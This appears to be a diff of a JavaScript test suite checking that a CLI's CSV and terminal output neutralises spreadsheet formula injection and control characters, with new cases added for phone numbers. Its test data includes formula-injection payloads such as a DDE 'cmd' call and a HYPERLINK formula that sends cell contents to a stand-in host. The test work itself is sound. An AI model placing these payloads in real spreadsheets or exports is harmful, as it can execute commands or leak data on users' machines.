@@ -15,7 +15,10 @@ const HOSTILE = [
   ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
   ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
   ...['a;=1+1', '\u0080\u009b31mred\u0085\u009f', '\u001b]0;title\u0007José\u007f', '\u0001=1+1', '\u202emoc.live'],
+  // Neither is a phone number: spreadsheets run the first ones, and show the last one as -998.
+  ...["+1+cmd|'/C calc'!A0", '+1 302\n+1 302', '+1 302;=1', '+1+1 302 555', '-1 302 555', '+1-302-555-0142'],
 ];
+const PHONES = ['+1 302 555 0142', '+1 (302) 555-0142', '+13025550142'];
 /** What a terminal obeys. */
 const STEERS = /(?![\t\r\n])[\p{Cc}\p{Bidi_Control}]/gu;
 const FORMULA = /(?<=^|[;\t\r\n])(?=[=+\-@\t\r\n＝＋－＠])/;
@@ -32,13 +35,13 @@ beforeAll(async () => {
     return moment;
   };
   const books = { db: store.db, provider: 'paypal', emails: null, log, now };
-  const person = { lastName: 'Quill', phone: '+1 302 555 0177', smsConsent: true, marketingConsent: false };
+  const person = { lastName: 'Quill', phone: '302 555 0177', smsConsent: true, marketingConsent: false };
   for (const [index, firstName] of HOSTILE.entries()) {
     const hostile = { ...form, userAgent: firstName };
     await insertMessage(store.db, { ...person, firstName, email: `ada${index}@agents.example` }, 'x.example', hostile);
   }
-  for (const email of ['Bo@Agents.Example', 'bo@agents.example', 'bo+other@agents.example']) {
-    await insertMessage(store.db, { ...person, firstName: 'Bo', email }, 'x.example', form);
+  for (const [index, email] of ['Bo@Agents.Example', 'bo@agents.example', 'bo+other@agents.example'].entries()) {
+    await insertMessage(store.db, { ...person, firstName: 'Bo', phone: PHONES[index] ?? '', email }, 'x.example', form);
   }
   for (const [index, text] of HOSTILE.entries()) {
     const review = { firstName: 'Cy', lastName: 'Reed', companyName: '', jobTitle: 'Broker', rating: 5 };
@@ -56,7 +59,7 @@ test.each([
   ['reviews', 'reviewDescription', HOSTILE.length],
   ['payments', 'firstName', HOSTILE.length],
   ['consents', 'userAgent', HOSTILE.length + 3],
-])('lists %s as JSON and CSV, newest first, without formulas', async (noun, field, count) => {
+])('lists %s as JSON and CSV, newest first, with no formula but phones', async (noun, field, count) => {
   const [rows, { code, out, err }] = await Promise.all([
     opsJson([noun, 'list'], env),
     ops([noun, 'list', '--csv'], env),
@@ -78,14 +81,15 @@ test.each([
     expect(cells).toContain(text.replace(new RegExp(FORMULA, 'g'), "'").replace(STEERS, '\ufffd'));
   }
 
-  expect(lines.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
+  const phones = header.includes('smsConsent') ? PHONES.toReversed() : [];
+  expect(lines.flat().filter((cell) => FORMULA.test(cell))).toEqual(phones);
   expect(lines.every((line) => line.length === header.length)).toBe(true);
   // Many spreadsheets split at a semicolon.
   expect(out).toMatch(/,"a;'=1\+1"[,\r\n]/);
 });
 
 test('steers no terminal with tables, single rows or JSON, which keeps every value', async () => {
-  for (const words of [['list'], ['show', `${HOSTILE.length - 2}`]]) {
+  for (const words of [['list'], ['show', '19']]) {
     const { out } = await ops(['messages', ...words], env);
     expect(out).toContain('José');
     expect(out).not.toMatch(STEERS);
